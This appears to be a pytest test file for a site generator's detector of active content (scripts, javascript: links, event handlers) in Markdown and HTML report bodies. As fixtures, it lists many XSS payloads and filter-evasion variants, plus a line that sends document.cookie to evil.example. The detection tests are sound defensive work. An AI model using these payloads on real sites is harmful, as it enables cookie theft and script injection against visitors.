"""Active content in report bodies (issue 16, item 13): `check` reports it as
`body-active-content` (an error, so `build` refuses), and `import` of a `.md` removes it
and says what it removed."""

from __future__ import annotations

import json

import pytest

from conftest import run_cli, report_text, write
from congressgen.activecontent import find_active, strip_active

HOSTILE = [
    ("<script>alert(1)</script>", "<script>"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    ('<object data="x.swf"></object>', "<object>"),
    ('<embed src="x.swf">', "<embed>"),
    ("[报名](javascript:alert(1))", "javascript:"),
    ("[报名](JaVaScRiPt:alert(1))", "javascript:"),
    ("![图](data:image/svg+xml;base64,PHN2Zz4=)", "data:"),
    ("[说明](vbscript:msgbox(1))", "vbscript:"),
    ('<a href="java&#x09;script:alert(1)">报名</a>', "javascript:"),
    ('<img src="a.png" onerror="alert(1)">', "onerror"),
    ('<p onclick="steal()">点击</p>', "onclick"),
    ("[报名][1]\n\n[1]: javascript:alert(1)", "javascript:"),
    ('[报名](https://a.example/){: onclick="x()"}', "onclick"),
]


@pytest.mark.parametrize("snippet,what", HOSTILE)
def test_check_flags_active_content_as_an_error_at_its_line(site_dir, snippet, what):
    body = f"一、工作回顾\n\n正文第一段。\n\n前文{snippet}后文。\n"
    text = report_text(id="a1", body=body)
    write(site_dir / "content/reports/a1.md", text)
    result = run_cli("check", "--source", str(site_dir), "--format", "json")
    found = [f for f in json.loads(result.stdout) if f["rule"] == "body-active-content"]
    assert result.returncode == 1, result.stdout
    assert found and all(f["severity"] == "error" for f in found)
    lines = text.split("\n")
    line = next(i for i, x in enumerate(lines, 1) if "前文" in x)
    first = found[0]
    start = lines[line - 1].index(snippet.split("\n")[0]) + 1
    assert first["path"] == "content/reports/a1.md"
    assert first["line"] >= line and (first["line"] > line or first["col"] >= start)
    assert first["line"] <= line + 2 and first["line"] < len(lines)
    assert what in first["message"]


def test_build_refuses_a_report_with_a_script(site_dir, tmp_path):
    text = report_text(id="a1", body="一、工作回顾\n\n<script>alert(1)</script>\n")
    write(site_dir / "content/reports/a1.md", text)
    line = text.split("\n").index("<script>alert(1)</script>") + 1
    out = tmp_path / "out"
    result = run_cli("build", "--source", str(site_dir), "--output", str(out))
    assert result.returncode == 1
    assert f"content/reports/a1.md:{line}:1" in result.stderr and "body-active-content" in result.stderr
    assert not out.exists()


@pytest.mark.parametrize("safe", [
    "`<script>alert(1)</script>` 是代码示例", "\n\n```\n<script>alert(1)</script>\n```\n",
    "<!-- <script>alert(1)</script> -->", "[国务院](https://www.gov.cn/)", '<img src="a.png" alt="图">',
    "一是加强 onclick 培训", "数据：a=1, b=2", "[链接](https://a.example/data:x)",
])
def test_code_comments_and_ordinary_links_are_not_flagged(safe):
    assert find_active(f"正文{safe}。\n") == []


def test_the_rule_has_a_stable_id_can_be_turned_off_and_is_documented(site_dir):
    from conftest import REPO

    assert "#### `body-active-content`（error）" in (REPO / "docs/check.md").read_text(encoding="utf-8")
    write(site_dir / "content/reports/a1.md", report_text(id="a1", body="一、工作回顾\n\n[x](javascript:1)\n"))
    config = site_dir / "congressgen.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "check:\n  rules:\n    body-active-content: off\n",
                      encoding="utf-8")
    result = run_cli("check", "--source", str(site_dir), "--format", "json")
    assert not [f for f in json.loads(result.stdout) if f["rule"] == "body-active-content"]


def test_strip_keeps_link_text_and_removes_whole_elements():
    text, removed = strip_active('甲<script>x()</script>乙[报名](javascript:go())丙<b onclick="y">丁</b>')
    assert text == "甲乙报名丙<b>丁</b>"
    assert [r.what for r in removed] == ["<script> 元素", "javascript: 链接", "onclick 事件属性"]


def test_import_md_strips_active_content_and_says_what_it_removed(site_dir, tmp_path):
    source = write(tmp_path / "pasted-report.md", "\n".join([
        "---", "title: 粘贴来的报告", "date: 2024-04-26", "---", "",
        "一、工作回顾", "",
        "各位代表：<script>document.location='https://evil.example/?'+document.cookie</script>现在报告工作。", "",
        "详见[报名表](javascript:alert(1))。", "",
        '<img src="a.png" alt="图" onerror="alert(1)">', "",
        "二、今后工作", "", "继续努力。", ""]))
    result = run_cli("import", str(source), "--source", str(site_dir))
    assert result.returncode == 0, result.stderr
    written = (site_dir / "content/reports/pasted-report.md").read_text(encoding="utf-8")
    for gone in ("<script", "javascript:", "onerror", "evil.example"):
        assert gone not in written
    assert "各位代表：现在报告工作。" in written and "详见报名表。" in written and '<img src="a.png" alt="图">' in written
    shown = result.stdout + result.stderr
    assert "pasted-report.md:8:6" in shown and "<script> 元素" in shown
    assert "pasted-report.md:10:3" in shown and "javascript: 链接" in shown
    assert "onerror 事件属性" in shown
    checked = run_cli("check", "--source", str(site_dir), "--format", "json")
    assert not [f for f in json.loads(checked.stdout) if f["rule"] == "body-active-content"]


# --- html_active: the pre-scan that spares the HTML parser on bodies with nothing active ---

def _parser_findings(fragment: str) -> list[str]:
    from congressgen.activecontent import _HtmlScan

    scan = _HtmlScan()
    scan.feed(fragment)
    scan.close()
    return scan.found


TRICKY_HTML = [
    "<SCRIPT>x()</SCRIPT>", "<ScRiPt src=a.js></script>", "<IFRAME SRC='a'>", "<Object data=x>", "<EMBED>",
    "<applet code=x>", "<frameset><FRAME src=a>", "<p ONCLICK='x()'>甲</p>", "<p\tonmouseover=x>",
    "<p\u3000onclick=x>", "<p\xa0onclick=x>", "<img/onerror=x src=a>", '<img src="a"onerror=x>',
    "<img src='a'onload='x'>", "<svg onload=alert(1)>", "<svg><a xlink:href='javascript:x()'>甲</a></svg>",
    "<svg><use href=data:image/svg+xml,x></svg>", '<a href="JaVaScRiPt:x()">', '<a href=" javascript:x()">',
    '<a href="java\tscript:x()">', '<a href="java\nscript:x()">', '<a href="java\x00script:x()">',
    '<a href="&#106;avascript:x()">', '<a href="&#x6A;avascript:x()">', '<a href="javascript&colon;x()">',
    '<a href="java&Tab;script:x()">', '<a href="&amp;#106;avascript:x()">', '<a href="vbscript:msgbox(1)">',
    '<img src="DATA:image/png;base64,AA">', '<img srcset="a.png 1x, javascript:x() 2x">',
    '<iframe srcdoc="<b>x</b>">', "<p SrcDoc=x>", '<form action="javascript:x()">', "<button formaction=javascript:x>",
    '<a title="a>b" onclick=x>', '<a title=\'>\' href="javascript:x">', "<!-- <script>x</script> -->",
    "<p class=onclick>甲</p>", "<strong>甲</strong><b onclick=x>", "<STRONG>甲</STRONG> on", "一是 onclick 培训",
    '<a href="https://a.example/data:x">', '<a href="https://a.example/?a=1&amp;b=2">链接</a>',
    "<p>数据：a=1</p>", "<p>javascript: 一词</p>", "<\u212aBD onclick=x>", "<scr\u0130pt>", "<p o\u0130n=x>",
]


@pytest.mark.parametrize("fragment", TRICKY_HTML)
def test_html_active_gives_what_the_parser_gives(fragment):
    from congressgen.activecontent import html_active

    page = f"<h2 id=\"sec-1\">一、工作回顾</h2>\n<p>正文<strong>第一段</strong>。</p>\n{fragment}\n<p>后文。</p>"
    assert html_active(page) == _parser_findings(page)


@pytest.mark.parametrize("fragment,what", [
    ("<SCRIPT>x()</SCRIPT>", "<script> 元素"), ("<p\x0conclick=x>", "onclick 事件属性"),
    ('<a href="java\tscript:x()">', 'href="javascript:…" 属性'), ('<a href="&#106;avascript:x()">', 'href="javascript:…" 属性'),
    ("<svg onload=alert(1)>", "onload 事件属性"), ("<p SrcDoc=x>", "srcdoc 属性"),
    ('<img srcset="a.png 1x, javascript:x() 2x">', 'srcset="javascript:…" 属性'),
])
def test_html_active_still_finds_tricky_active_content(fragment, what):
    from congressgen.activecontent import html_active

    assert what in html_active(f"<p>正文<strong>甲</strong></p>{fragment}")


def test_html_active_skips_the_parser_on_a_body_with_nothing_active(monkeypatch):
    from congressgen import activecontent

    def refuse(*args):
        raise AssertionError("parser used")

    body = ('<h2 id="sec-1">一、工作回顾</h2>\n<p>一是<strong>加强</strong>培训。</p>\n'
            '<p><a href="../r1/">上一篇</a><img alt="图" src="photo.png"></p>\n<table><tr><td>1</td></tr></table>')
    monkeypatch.setattr(activecontent._HtmlScan, "feed", refuse)
    assert activecontent.html_active(body) == []
    with pytest.raises(AssertionError):
        activecontent.html_active(body + '<p onclick="x()">')


def test_html_active_agrees_with_the_parser_on_random_markup():
    import random

    from congressgen.activecontent import html_active

    pieces = ["<", ">", "/", " ", "\t", "\u3000", "=", '"', "'", "&", "#106;", "&colon;", "on", "ON", "click",
              "a", "p", "strong", "script", "SCRIPT", "iframe", "svg", "img", "href", "src", "srcdoc", "srcset",
              "java", "script:", "data:", "vb", ":", ",", "甲", "！", "\x00", "\n", "<!--", "-->", "x"]
    rng = random.Random(17)
    for _ in range(3000):
        fragment = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 30)))
        assert html_active(fragment) == _parser_findings(fragment), fragment
